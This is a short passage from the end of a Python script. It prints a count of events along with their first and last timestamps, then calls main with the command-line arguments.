    print(f"{len(EVENTS)} events, {EVENTS[0][1]['@timestamp']} .. {EVENTS[-1][1]['@timestamp']}")


if __name__ == "__main__":
    main(sys.argv)
